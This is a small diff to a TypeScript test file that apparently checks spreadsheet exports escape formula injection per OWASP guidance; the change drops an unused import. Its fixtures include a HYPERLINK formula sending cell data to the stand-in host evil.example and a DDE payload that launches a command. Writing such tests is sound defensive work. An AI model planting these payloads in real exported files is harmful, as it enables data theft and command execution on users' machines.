@@ -5,7 +5,7 @@
  * text, with the leading single quote of OWASP's rule, never as live formulas.
  */
 import { beforeAll, describe, expect, it } from 'vitest';
-import { createHarness, fixtures, setupCall, type Harness } from '../support/harness';
+import { createHarness, fixtures, type Harness } from '../support/harness';
 
 const EVIL_ORG = '=HYPERLINK("http://evil.example/?d="&A1;"Voir")';
 const EVIL_TITLE = "+cmd|' /C calc'!A0";
